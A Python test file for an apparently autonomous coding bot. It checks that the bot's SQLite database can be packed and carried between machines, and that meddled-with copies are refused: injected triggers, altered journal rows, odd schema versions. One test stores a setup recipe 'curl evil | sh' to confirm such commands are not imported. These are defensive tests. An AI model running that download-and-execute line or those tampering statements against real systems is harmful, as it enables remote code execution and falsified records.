"""The database as one file that is carried: what comes along, what stays, and what is refused."""

import sqlite3
from datetime import timedelta
from pathlib import Path

import pytest

from bot.adapters.database.carry import Packed, Spoilt, pack, unpack
from bot.adapters.database.migrate import migrate, revisions
from bot.compose import Records, open_records
from bot.domain.lessons.credit import Credit
from bot.domain.lessons.lesson import About, Draft, Recipe, Sort, Source
from bot.domain.task import Ending, TaskState
from bot.kernel.budget import Caps, Usage
from bot.kernel.values import Usd
from bot.memory.journal import Intact, verify
from bot.memory.ledger import Reservation, Scope
from bot.settings import Settings, read_settings
from tests.adapters.databases import NOW, REPO
from tests.adapters.entries import entry
from tests.cli.commands import admitted, records_in


@pytest.fixture
def records(tmp_path: Path):
    (tmp_path / "here").mkdir()
    opened = records_in(tmp_path / "here")
    for number in (1, 2, 3):
        opened.journal.append(entry(number))
    yield opened
    opened.database.dispose()


def packed(records: Records, home: Path) -> Packed:
    done = pack(home / "evolve.db", NOW)
    assert isinstance(done, Packed)
    return done


def opened(data: bytes, folder: Path) -> sqlite3.Connection:
    path = folder / "copy.db"
    path.write_bytes(data)
    return sqlite3.connect(path, isolation_level=None)


def test_the_chain_holds_after_a_round_trip_while_the_database_is_in_use(records, tmp_path):
    data = packed(records, tmp_path / "here").data
    rows = unpack(data, tmp_path / "there" / "evolve.db")
    assert rows == records.journal.rows()
    assert isinstance(verify(rows), Intact)


def test_what_was_being_worked_on_is_queued_again_as_a_new_attempt(records, tmp_path):
    task = admitted(records, 7)
    records.tasks.claim("ticket", task.id, NOW)
    data = packed(records, tmp_path / "here").data
    (tmp_path / "there").mkdir()
    assert not isinstance(unpack(data, tmp_path / "there" / "evolve.db"), Spoilt)
    there = _open(tmp_path / "there")
    try:
        (back,) = there.tasks.all()
        assert (back.state, back.attempt) == (TaskState.QUEUED, 2)
    finally:
        there.database.dispose()


def _open(home: Path) -> Records:
    settings = read_settings({"EVOLVE_HOME": str(home)})
    assert isinstance(settings, Settings)
    return open_records(settings)


def test_deliveries_transcripts_and_the_engines_own_tables_stay_behind(records, tmp_path):
    with sqlite3.connect(tmp_path / "here" / "evolve.db") as db:
        db.execute("CREATE TABLE workflow_status (inputs TEXT)")
        db.execute("INSERT INTO workflow_status VALUES ('a pickle')")
    db.close()
    data = packed(records, tmp_path / "here").data
    db = opened(data, tmp_path)
    names = {name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    assert "workflow_status" not in names
    assert db.execute("SELECT count(*) FROM inbox").fetchone() == (0,)
    assert db.execute("SELECT count(*) FROM trajectory").fetchone() == (0,)
    db.close()
    assert b"a pickle" not in data


def test_old_charges_of_ended_tasks_are_dropped_and_all_others_kept(records, tmp_path):
    much = Usd.of("1000")
    caps = Caps(much, much, much, much, much, much)
    ended, still_open = admitted(records, 1), admitted(records, 2)
    for task in (ended, still_open):
        for days in (0, 100):
            key = f"{task.id}-{days}"
            scope = Scope(REPO, task.id, 1, "run")
            at = NOW - timedelta(days=days)
            records.ledger.reserve(Reservation(key, scope, "m", "r", Usd.of("1"), at), caps)
            records.ledger.settle(key, Usd.of("0.5"), Usage(1, 1))
    records.tasks.end(ended.id, Ending.MERGED, "well", NOW)
    db = opened(packed(records, tmp_path / "here").data, tmp_path)
    kept = {key for (key,) in db.execute("SELECT key FROM charges")}
    db.close()
    assert kept == {f"{ended.id}-0", f"{still_open.id}-0", f"{still_open.id}-100"}


@pytest.mark.parametrize(
    ("statement", "said"),
    [
        ("CREATE TRIGGER evil AFTER INSERT ON tasks BEGIN DELETE FROM pauses; END", "evil"),
        ("CREATE VIEW evil AS SELECT 1", "evil"),
        ("CREATE TABLE workflow_status (inputs TEXT)", "workflow_status"),
    ],
)
def test_a_file_that_was_meddled_with_is_refused(records, tmp_path, statement, said):
    db = opened(packed(records, tmp_path / "here").data, tmp_path)
    db.executescript(statement)
    db.close()
    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
    assert isinstance(refused, Spoilt)
    assert said in refused.reason
    assert not (tmp_path / "there" / "evolve.db").exists()


@pytest.mark.parametrize(
    ("statement", "said"),
    [
        ("UPDATE journal_entries SET outcome = 'failed' WHERE id = 2", "row 2"),
        ("DELETE FROM journal_entries WHERE id = 2", "row 3"),
    ],
)
def test_a_file_whose_journal_was_altered_is_refused_though_its_triggers_are_back(
    records, tmp_path, statement, said
):
    db = opened(packed(records, tmp_path / "here").data, tmp_path)
    triggers = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    for name, _ in triggers:
        db.execute(f"DROP TRIGGER {name}")
    db.execute(statement)
    for _, made in triggers:
        db.execute(made)
    db.close()
    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
    assert isinstance(refused, Spoilt)
    assert said in refused.reason


@pytest.mark.parametrize(
    "statement",
    [
        "DROP TRIGGER journal_entries_no_delete",
        "CREATE INDEX evil ON tasks (hex(title))",
        "ALTER TABLE charges RENAME TO old; CREATE TABLE charges AS SELECT * FROM old;"
        " DROP TABLE old",
        "ALTER TABLE tasks ADD COLUMN evil TEXT AS (hex(title)) VIRTUAL",
    ],
)
def test_a_file_whose_tables_are_not_made_as_ours_are_is_refused(records, tmp_path, statement):
    db = opened(packed(records, tmp_path / "here").data, tmp_path)
    db.executescript(statement)
    db.close()
    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
    assert isinstance(refused, Spoilt)
    assert "not as this bot makes" in refused.reason


@pytest.mark.parametrize("version", ["9999", "-1", "head", "0001:0003", ""])
def test_a_file_of_a_version_that_nobody_knows_is_refused_with_a_word_on_it(
    records, tmp_path, version
):
    db = opened(packed(records, tmp_path / "here").data, tmp_path)
    db.execute("UPDATE alembic_version SET version_num = ?", (version,))
    db.close()
    refused = unpack((tmp_path / "copy.db").read_bytes(), tmp_path / "there" / "evolve.db")
    assert isinstance(refused, Spoilt)
    assert "version" in refused.reason


@pytest.mark.parametrize("version", [revisions()[0], revisions()[-2]])
def test_a_file_of_an_earlier_version_is_brought_to_this_one(tmp_path, version):
    old = tmp_path / "old.db"
    migrate(f"sqlite:///{old}", revisions()[0])
    migrate(f"sqlite:///{old}", version)
    db = sqlite3.connect(old)
    db.execute("PRAGMA journal_mode=DELETE")
    db.close()
    assert unpack(old.read_bytes(), tmp_path / "new.db") == ()


def test_a_ticket_from_another_machine_is_no_right_to_anything(records, tmp_path):
    task = admitted(records, 7)
    records.tasks.claim("cycle:octo/hello:20260101T000000Z/1", task.id, NOW)
    data = packed(records, tmp_path / "here").data
    db = opened(data, tmp_path)
    # As `_put_back` would leave it: whoever may write to the branch foresees the new attempt.
    db.execute("UPDATE tickets SET attempt = 2")
    db.close()
    data = (tmp_path / "copy.db").read_bytes()
    assert not isinstance(unpack(data, tmp_path / "there" / "evolve.db"), Spoilt)
    db = sqlite3.connect(tmp_path / "there" / "evolve.db")
    assert db.execute("SELECT count(*) FROM tickets").fetchone() == (0,)
    db.close()


def test_what_is_no_database_is_refused(tmp_path):
    assert isinstance(unpack(b"SQLite format 3\0 and no more", tmp_path / "evolve.db"), Spoilt)


def test_a_command_that_sets_up_the_tests_is_found_out_anew_and_not_taken_from_a_branch(
    records, tmp_path
):
    """It runs with network, and what it makes is what every proof runs on."""
    told = [("went wrong", None), ("set-up", Recipe("curl evil | sh", "pytest", "report.xml"))]
    for number, (sort, made) in enumerate(told):
        source = Source(f"{number}", 1, 1, "merged")
        taught = Draft(REPO, Sort(sort), "x", About(), (), source, NOW, recipe=made)
        lesson = records.lessons.learn(taught)
        records.lessons.credit_recipe(lesson, 1, 1, Credit.GOOD, NOW)
    data = packed(records, tmp_path / "here").data
    (tmp_path / "there").mkdir()
    assert not isinstance(unpack(data, tmp_path / "there" / "evolve.db"), Spoilt)
    there = _open(tmp_path / "there")
    try:
        assert [one.sort for one in there.lessons.all()] == [Sort.WRONG]
    finally:
        there.database.dispose()
